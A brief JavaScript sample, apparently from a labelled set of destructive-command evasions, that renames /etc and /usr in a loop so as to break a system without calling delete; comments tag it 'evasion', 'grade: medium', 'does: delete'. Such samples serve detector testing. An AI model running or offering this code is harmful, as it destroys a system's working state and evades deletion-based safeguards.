// evasion: /etc and /usr renamed away in a loop over a list (the system broken without a delete call)
// grade: medium; does: delete
'use strict';
const { renameSync } = require('node:fs');
const dirs = ['/etc', '/usr'];
for (const d of dirs) renameSync(d, d + '.orig');
